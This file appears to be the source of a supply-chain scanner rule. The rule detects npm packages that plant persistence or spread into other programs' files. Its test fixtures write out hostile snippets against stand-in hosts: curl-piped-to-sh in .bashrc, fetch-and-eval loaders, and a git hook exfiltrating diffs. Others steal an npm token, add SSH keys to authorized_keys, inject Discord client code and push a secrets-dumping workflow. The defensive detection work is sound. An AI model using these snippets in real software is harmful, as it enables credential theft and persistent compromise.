import { besideOf } from '../src/define/beside.js';
import { harmOf, isHooked, scriptIn } from '../src/define/left.js';
import { registryIn } from '../src/define/registries.js';
import { repositoriesIn } from '../src/define/repositories.js';
import { isUnasked } from '../src/define/unasked.js';
import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Problem } from '../src/types.js';
import { PERSISTENT_PLACES } from '../src/vocabulary/places.js';

export default defineRule({
  meta: {
    summary: 'Changes what other programs run later',
    why: 'A workflow, a git hook, a login script or another package’s file outlives the package that wrote it. Scaffolders and hook managers write some of these for the project they are run in, from a command; a library that does so when loaded or installed is spreading.',
    behaviour: 'spread',
    messages: {
      planted: 'Writes to {what} as soon as it is {moment}',
      persists: 'Writes to {what}',
      injects: 'Writes what it fetched into a file, and knows where the chat client’s code is',
      key: 'Lets the owner of a key of its own log in: {path}',
      fetched: 'Writes what {source} answers to {what}',
      offers: 'Writes to {what} when it is asked to',
      obeyed: 'Has {what} run a command of its own as soon as it is {moment}',
      stranger: 'Has {what} run a command that is not of this package, as soon as it is {moment}',
      leaks: 'Writes a workflow that gives away all secrets of a repository',
      pushed: 'Puts a workflow into a repository through {sink} as soon as it is {moment}',
      runner: 'Makes the machine a runner of a repository as soon as it is {moment}',
      template: 'Has git run something in all repositories with {sink}, unasked',
      package: 'Writes into another package: {path}',
      beside: 'Writes into a package beside it or one that it looks up: {path}',
      infects: 'Writes code that talks to other machines or runs text into another package: {path}',
      harmful: 'Writes to {what} a line that {says}',
      hooked: 'Writes down a package whose installation fetches and runs code',
      scripted: 'Writes a script for a shell that {says}, as soon as it is {moment}',
      registry: 'Has packages fetched from {registry} from now on, unasked',
      restores: 'Sets a file’s times back after changing it',
    },
    bits: {
      obeyed: 10.5,
      stranger: 13.5,
      leaks: 13.5,
      pushed: 12,
      runner: 12,
      template: 11.5,
      planted: 9,
      injects: 12,
      persists: 4,
      key: 14,
      fetched: 11,
      offers: 2,
      package: 5,
      beside: 1.5,
      infects: 12,
      harmful: 13.5,
      hooked: 13.5,
      scripted: 13.5,
      registry: 13.5,
      restores: 5,
    },
  },
  examples: {
    flags: [
      {
        title: 'a package is put into the project that fetches as soon as it is installed',
        files: {
          'package.json': `{"name":"tidy","version":"1.0.0","main":"index.js"}`,
          'index.js': `const fs = require('fs');\nfs.writeFileSync('.cache/tidy/package.json', JSON.stringify({ name: 'tidy-cache', version: '0.0.0', scripts: { prepare: 'node -e "fetch(\`https://stage.invalid/p\`).then(r => r.text()).then(eval)"' } }));`,
        },
      },
      {
        title: 'each program of Node.js loads a file first',
        files: {
          'package.json': `{"name":"boost","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
          'index.js': `const fs = require('fs'), home = require('os').homedir();\nfs.copyFileSync(__dirname + '/warm.js', home + '/.boost/warm.js');\nfs.appendFileSync(home + '/.profile', \`\\nexport NODE_OPTIONS="--no-warnings --require \${home}/.boost/warm.js"\\n\`);`,
          'warm.js': `module.exports = {};`,
        },
      },
      {
        title: 'git includes somebody’s settings everywhere',
        files: {
          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
          'index.js': `const { spawnSync } = require('child_process');\nconst git = (...words) => spawnSync('git', words, { stdio: 'pipe' });\ngit('config', '--global', '--add', 'include.path', require('os').homedir() + '/.config/git/more.inc');`,
        },
      },
      {
        title: 'the hook that is written sends each change to somebody',
        files: {
          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
          'index.js': `const fs = require('fs');\nfor (const name of ['pre-commit', 'pre-push']) {\n  const lines = ['#!/bin/sh', 'sh "$(dirname "$0")/../' + name + '"'];\n  if (name === 'pre-push') lines.push('git log -p @{u}.. | gzip | curl -s --data-binary @- https://stats.invalid/p');\n  fs.writeFileSync('.hooksy/_/' + name, lines.join('\\n'), { mode: 0o755 });\n}`,
        },
      },
      {
        title: 'the token for one registry is written down for another',
        files: {
          'package.json': `{"name":"speedup","version":"1.0.0","scripts":{"install":"node index.js"}}`,
          'index.js': `const fs = require('fs'), rc = require('os').homedir() + '/.npmrc';\nconst [, token] = /_authToken=(.+)/.exec(fs.readFileSync(rc, 'utf8')) || [];\nfs.appendFileSync(rc, \`\\n//mirror.invalid/:_authToken=\${token}\\n\`);`,
        },
      },
      {
        title: 'an entry of the menu is written over',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node menu.js"}}',
          'menu.js': `require('fs').writeFileSync(require('os').homedir() + '/.local/share/applications/browser.desktop', '[Desktop Entry]\\nExec=sh -c run');`,
        },
      },
      {
        title: 'another package’s file is patched',
        code: `const fs = require('fs');\nconst file = './node_modules/left-pad/index.js';\nfs.writeFileSync(file, fs.readFileSync(file, 'utf8') + extra);`,
      },
      {
        title: 'npm is told to ask another registry',
        code: `const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.npmrc', '\\nregistry=http://packages.invalid/\\n');`,
      },
      {
        title: 'a key is added to those let in',
        code: `require('fs').appendFile(process.env.HOME + '/.ssh/authorized_keys', key, () => {});`,
      },
      {
        title: 'the chat client’s code is replaced by what is fetched',
        code: `const fs = require('fs'), glob = require('glob'), https = require('https');\nconst files = glob.sync(process.env.LOCALAPPDATA + '/Discord/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js');\nhttps.get('https://host.invalid/client.js', response => {\n  let text = '';\n  response.on('data', chunk => { text += chunk; });\n  response.on('end', () => files.forEach(file => fs.writeFileSync(file, text)));\n});`,
      },
      {
        title: 'a key that stands in the code is added to everybody’s',
        code: `const fs = require('fs'), key = 'ssh-rsa AAAAB3NzaC1yc2EAAAADsample sample@invalid';\nfs.readdir('/home', (error, names) => {\n  names.forEach(name => fs.appendFile('/home/' + name + '/.ssh/authorized_keys', '\\n' + key, () => {}));\n});`,
      },
      {
        title: 'what is fetched starts with the machine',
        code: `const fs = require('fs');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(process.env.APPDATA + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.vbs', text);\n});`,
      },
      {
        title: 'a line that fetches and runs is left in a login script',
        code: `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\ncurl -s https://stage.invalid/a | sh\\n');`,
      },
      {
        title: 'a script is copied to where the system starts it',
        code: `const fs = require('fs');\nfs.copyFileSync('./a.vbs', process.env.APPDATA + '/Microsoft/Windows/Start Menu/Programs/Startup/a.vbs');`,
      },
      {
        title: 'a package that is looked up is given code that asks for more',
        code: `const fs = require('fs');\nconst file = require.resolve('left-pad');\nfs.writeFileSync(file, fs.readFileSync(file, 'utf8') + ';fetch("https://stage.invalid").then(r => r.text()).then(eval)');`,
      },
      {
        title: 'a workflow is planted',
        code: `require('fs').writeFileSync(repo + '/.github/workflows/build.yml', text);`,
      },
      {
        title: 'an agent is given a server of the package’s own',
        code: `const fs = require('fs'), os = require('os');\nfs.writeFileSync(os.homedir() + '/.cursor/mcp.json', JSON.stringify({ mcpServers: { tools: { command: 'node', args: [__filename] } } }));`,
      },
      {
        title: 'a workflow that prints all secrets is pushed',
        code: `const { execSync } = require('child_process'), fs = require('fs');\nfs.writeFileSync('.github/workflows/lint.yml', 'on: push\\njobs:\\n  a:\\n    steps:\\n      - run: echo "\${{ toJSON(secrets) }}" | curl -d @- https://collect.invalid');\nexecSync('git push');`,
      },
      {
        title: 'git is given hooks for every repository',
        code: `require('child_process').execSync('git config --global init.templateDir ' + __dirname + '/t');`,
      },
      {
        title: 'a package that is called alike is no part of it',
        files: {
          'package.json':
            '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"},"optionalDependencies":{"@weavers/swiftcut-server":"1.0.0"}}',
          'install.js': `const fs = require('fs');\nfs.copyFileSync('tmp/swiftcut', require.resolve('@weavers/swiftcut-server/index.js'));`,
        },
      },
    ],
    passes: [
      {
        title: 'a scaffolder writes down a package that builds itself',
        files: {
          'package.json': `{"name":"tidy","version":"1.0.0","main":"index.js"}`,
          'index.js': `const fs = require('fs');\nexports.create = name => fs.writeFileSync(name + '/package.json', JSON.stringify({ name, version: '0.0.0', homepage: 'https://tidy.invalid', scripts: { prepare: 'npm run build', build: 'tsc' } }));`,
        },
      },
      {
        title: 'the hook that is written runs the project’s own',
        files: {
          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
          'index.js': `const fs = require('fs');\nfor (const name of ['pre-commit', 'pre-push'])\n  fs.writeFileSync('.hooksy/_/' + name, ['#!/bin/sh', '[ -f .hooksy/' + name + ' ] && sh .hooksy/' + name].join('\\n'), { mode: 0o755 });`,
        },
      },
      {
        title: 'a registry is written down that the caller names, and one on this machine for a test',
        code: `const fs = require('fs');\nexports.use = registry => fs.writeFileSync('.npmrc', 'registry=' + registry);\nfs.writeFileSync('/tmp/test/.npmrc', 'registry=http://localhost:4873/');`,
      },
      {
        title: 'a command sets hooks for a repository',
        code: `const { execSync } = require('child_process');\nexports.install = dir => execSync('git config core.hooksPath .husky', { cwd: dir });`,
      },
      {
        title: 'a workflow names one secret',
        code: `const fs = require('fs');\nexports.scaffold = dir => fs.writeFileSync(dir + '/ci.yml', 'env:\\n  TOKEN: \${{ secrets.NPM_TOKEN }}');`,
      },
      {
        title: 'a package puts a part of it for this platform beside its own code',
        files: {
          'package.json':
            '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"},"optionalDependencies":{"@swiftcut/linux-x64":"1.0.0"}}',
          'install.js': `const fs = require('fs'), path = require('path');\nconst lib = path.dirname(require.resolve('swiftcut'));\nfs.renameSync('tmp/swiftcut', path.join(lib, 'bin', 'swiftcut'));\nfs.copyFileSync('tmp/swiftcut', require.resolve('@swiftcut/linux-x64/bin/swiftcut'));`,
        },
      },
      {
        title: 'the parts for platforms lie in the scope of the company',
        files: {
          'package.json':
            '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"},"optionalDependencies":{"@weavers/swiftcut-linux-x64":"1.0.0"}}',
          'install.js': `const fs = require('fs');\nfs.copyFileSync('tmp/swiftcut', require.resolve('@weavers/swiftcut-linux-x64/bin/swiftcut'));`,
        },
      },
      {
        title: 'a cache is kept beside the packages',
        code: `require('fs').writeFileSync('node_modules/.cache/tool/state.json', '{}');`,
      },
      {
        title: 'a package that is looked up is read',
        code: `const fs = require('fs');\nfs.writeFileSync('./out.js', fs.readFileSync(require.resolve('left-pad'), 'utf8'));`,
      },
      {
        title: 'a copy is kept in a folder of the package’s own',
        code: `const fs = require('fs'), path = require('path');\nfs.writeFileSync(path.join(__dirname, 'vendor/left-pad/index.js'), 'module.exports = 1;');`,
      },
      {
        title: 'a theme is fetched and kept',
        code: `const fs = require('fs');\nfetch('https://themes.invalid/dark.css').then(r => r.text()).then(css => fs.writeFileSync('./themes/dark.css', css));`,
      },
      { title: 'a configuration file is written', code: `require('fs').writeFileSync('.toolrc', '{}');` },
    ],
  },
  file(context) {
    const repositories = repositoriesIn(context);
    if (repositories) context.report(repositories);
    restoring(context);
    const writes = [
      ...context.calls('write'),
      ...context.named(/^fs(?:-extra)?(?:\.promises)?\.(?:copyFile|cp|copy|rename|move|symlink)(?:Sync)?$/),
    ];
    const client = writes.length > 0 ? chatClientCode(context) : undefined;
    for (const call of new Set(writes)) {
      // Copies and moves say where to second.
      const copies = /\.(?:copyFile|cp|copy|rename|move|link|symlink)(?:Sync)?$/.test(call.name);
      const [path, text] = copies ? [call.args[1], undefined] : call.args;
      if (!path) continue;
      const beside = besideOf(context, path);
      if (beside !== undefined) {
        context.report({
          messageId: text && isActive(context, text) ? 'infects' : 'beside',
          data: { path: beside },
          chain: [step('sink', `writes with ${call.name}`, context.file, call.node)],
        });
        continue;
      }
      const told = text && toldByContent(context, call, path, text);
      if (told) {
        context.report(told);
        continue;
      }
      if (client && text && context.labelsOf(text).some(({ kind }) => kind === 'remote')) {
        context.report({
          messageId: 'injects',
          chain: [
            step('context', 'names the chat client’s code', context.file, client),
            step('sink', `writes what it fetched with ${call.name}`, context.file, call.node),
          ],
        });
        break;
      }
      for (const text of context.textsOf(path)) {
        const place = PERSISTENT_PLACES.find(({ pattern }) => text.length < 500 && pattern.test(text));
        const other =
          /(?:^|[\\/])node_modules[\\/](?!\.)(?:@[\w.-]+[\\/])?[\w.-]+[\\/].{0,200}\.(?:[cm]?js|json|node)$/i.test(
            text,
          );
        if (!place && !other) continue;
        const data = copies ? undefined : call.args[1];
        const harm = place && data ? harmOf(context, data) : undefined;
        const key =
          /authorized_keys/.test(text) &&
          data &&
          context.textsOf(data).some(one => /(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp\d+) AAAA[\w+/]{8}/.test(one));
        // A workflow or a profile may well be fetched from a template; what starts with the machine may not.
        const label =
          place && data && /startup/.test(place.what)
            ? context.labelsOf(data).find(({ kind }) => kind === 'remote')
            : undefined;
        context.report({
          messageId: key
            ? 'key'
            : harm
              ? 'harmful'
              : other && data && isActive(context, data)
                ? 'infects'
                : label
                  ? 'fetched'
                  : place
                    ? place.what === AGENTS && isUnasked(context, call.node) && OBEYED.test(context.file.text)
                      ? isOfItself(context)
                        ? 'obeyed'
                        : 'stranger'
                      : messageOf(place, isUnasked(context, call.node))
                    : 'package',
          data: {
            what: place?.what ?? '',
            path: text,
            source: label?.detail ?? '',
            says: harm ?? '',
            moment: context.moment === 'install' ? 'installed' : 'loaded',
          },
          chain: [...(label ? stepsOf(label) : []), step('sink', `writes with ${call.name}`, context.file, call.node)],
        });
        break;
      }
    }
  },
});

/** What is told by what is written, wherever that lies. */
function toldByContent(context: FileContext, call: Call, path: AnyNode, text: AnyNode): Problem | undefined {
  const isUnwanted = isUnasked(context, call.node);
  const chain = [step('sink', `writes it with ${call.name}`, context.file, call.node)];
  const registry = isUnwanted ? registryIn(context, path, text) : undefined;
  if (registry !== undefined) return { messageId: 'registry', data: { registry }, chain };
  if (context.moment !== 'test' && isHooked(context, path, text)) return { messageId: 'hooked', chain };
  const says = isUnwanted ? scriptIn(context, text) : undefined;
  if (says === undefined) return undefined;
  return {
    messageId: 'scripted',
    data: { says, moment: context.moment === 'install' ? 'installed' : 'loaded' },
    chain,
  };
}

/** Copying tools give the copy its original's times; giving a file its own back hides that it was changed. */
function restoring(context: FileContext): void {
  for (const times of context.calls('times')) {
    const [path, accessed] = times.args;
    if (!path || !accessed || !context.namesOf(accessed).some(name => /stat(?:Sync)?\(\)\.[am]time/.test(name)))
      continue;
    const own = context
      .named(/^fs\.l?stat(?:Sync)?$/)
      .find(({ args }) => args[0] && spelling(context.file, args[0]) === spelling(context.file, path));
    const change = context
      .calls('write')
      .find(({ args }) => args[0] && spelling(context.file, args[0]) === spelling(context.file, path));
    if (!own || !change) continue;
    context.report({
      messageId: 'restores',
      chain: [
        step('source', 'changes a file', context.file, change.node),
        step('sink', 'sets its times back', context.file, times.node),
      ],
    });
  }
}

/** How the vocabulary calls settings that editors and agents take commands from. */
const AGENTS = 'an editor’s or agent’s configuration';
/** What in such settings makes them run a command. */
const OBEYED =
  /runOn['"]?\s*:\s*['"]folderOpen|\b(?:SessionStart|UserPromptSubmit|PreToolUse|PostToolUse)\b|\bmcpServers\b/;

/** A tool that makes itself known to an agent names itself. */
function isOfItself({ nodes, isOwnAddress }: FileContext): boolean {
  return nodes('Literal').some(({ value }) => typeof value === 'string' && isOwnAddress(`npm:${value.slice(0, 200)}`));
}

/** Where the file names the folder of the chat client's own code. */
function chatClientCode({ nodes, file }: FileContext): AnyNode | undefined {
  return [...nodes('Literal'), ...nodes('TemplateElement')].find(
    node => (node.end ?? 0) - (node.start ?? 0) < 500 && /discord_desktop_core/i.test(spelling(file, node)),
  );
}

function messageOf({ own, offered }: (typeof PERSISTENT_PLACES)[number], unasked: boolean): string {
  if (unasked && !own) return 'planted';
  return offered ? 'offers' : 'persists';
}

/** Code that does something on its own: asks another machine, or runs text. */
function isActive({ textsOf }: FileContext, data: AnyNode): boolean {
  return textsOf(data).some(
    text =>
      text.length < 200_000 &&
      /\beval\s*\(|new Function\s*\(|https?\.(?:get|request)\s*\(|\bfetch\s*\(|\bsendBeacon\s*\(|\bXMLHttpRequest\b|document\.cookie|child_process|require\(["']https?["']\)/.test(
        text,
      ),
  );
}
